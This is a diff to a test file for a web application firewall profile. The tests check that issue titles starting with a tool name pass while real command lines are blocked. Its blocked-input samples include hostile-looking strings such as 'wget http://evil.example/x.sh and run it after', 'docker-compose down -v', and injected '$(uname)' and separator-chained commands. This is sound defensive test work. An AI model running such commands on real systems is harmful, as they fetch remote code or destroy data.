@@ -7,7 +7,13 @@ import assert from 'node:assert/strict';
 import { join } from 'node:path';
 import { describe, test } from 'node:test';
 import { MARKDOWN_TEXT_SUFFIX } from '../../waf/profile/expand.ts';
-import { markdownCodeText, powershellInert, proseQuotesInert, proseWaivers } from '../../waf/profile/view.ts';
+import {
+  commandOnlyAtStart,
+  markdownCodeText,
+  powershellInert,
+  proseQuotesInert,
+  proseWaivers,
+} from '../../waf/profile/view.ts';
 import { fakeDeps, fakeRequestContext, instantiate, runRequest } from '../testing.ts';
 import { policy } from './policy.ts';
 
@@ -86,6 +92,58 @@ describe('waf API profile: shell commands in markdown code spans (family c)', ()
       { body: 'I tried `ping api.example.com`, then; wget evil.example/x as you said' },
     );
     assert.ok(r.events.includes(`json.body${MARKDOWN_TEXT_SUFFIX}`), r.events);
+  });
+});
+
+describe('waf API profile: a tool name starting a sentence (family c without code spans)', () => {
+  test('issue titles and descriptions that start with a command name pass; CRS blocks them (932260)', async () => {
+    for (const title of [
+      'docker-compose fails on arm64 after the upgrade',
+      'docker-autoscaler on spot instances',
+      'python3 crashes on startup with a segfault',
+      'wget is not installed in the base image',
+      'Wget is not installed in the base image (v2 runners only).',
+    ]) {
+      assert.equal((await run(plain, { title })).error?.reason, 'waf:rce', title);
+      assert.equal((await run(api, { title })).error, undefined, title);
+    }
+  });
+
+  test('a command line that could do harm from the start of the value is still blocked', async () => {
+    for (const title of [
+      // Options, paths, globs, host names or URLs as arguments.
+      'wget evil.example.com and then run it please',
+      'wget http://evil.example/x.sh and run it after',
+      'docker-compose down -v on every host now',
+      'python3 -c something and more words here',
+      // A separator or substitution anywhere: another command position.
+      'docker-compose fails; wget is missing too',
+      'docker-compose fails && python3 exits right away',
+      'docker-compose fails | wget the logs from there',
+      'docker-compose fails on $(uname) after the upgrade',
+      'docker-compose fails\nwget is not installed either',
+      // Probes and launchers first.
+      'whoami prints nothing on the runner host',
+      'sudo wget is what they told me to run',
+      'env python3 crashes on startup here too',
+    ]) {
+      assert.equal((await run(api, { title })).error?.reason, 'waf:rce', title);
+    }
+  });
+
+  test('commandOnlyAtStart: no separator, a first word that is no probe or launcher, plain-word arguments', () => {
+    assert.equal(commandOnlyAtStart('docker-compose fails on arm64 after the upgrade'), true);
+    assert.equal(commandOnlyAtStart('(python3) crashes on startup, 87.4% of the time'), true);
+    assert.equal(commandOnlyAtStart("wget isn't installed in the image"), true);
+    assert.equal(commandOnlyAtStart('/usr/bin/wget is missing in the image'), true);
+    assert.equal(commandOnlyAtStart('/usr/bin/id prints nothing at all'), false);
+    assert.equal(commandOnlyAtStart('sleep 8 hours then retry the job'), false);
+    assert.equal(commandOnlyAtStart('Time to ship the release'), false);
+    assert.equal(commandOnlyAtStart('wget is missing; curl works fine'), false);
+    assert.equal(commandOnlyAtStart('wget is missing = curl works fine'), false);
+    assert.equal(commandOnlyAtStart('wget works with example.com today'), false);
+    assert.equal(commandOnlyAtStart('wget works with --quiet today'), false);
+    assert.equal(commandOnlyAtStart('wget works with \\ today'), false);
   });
 });
 
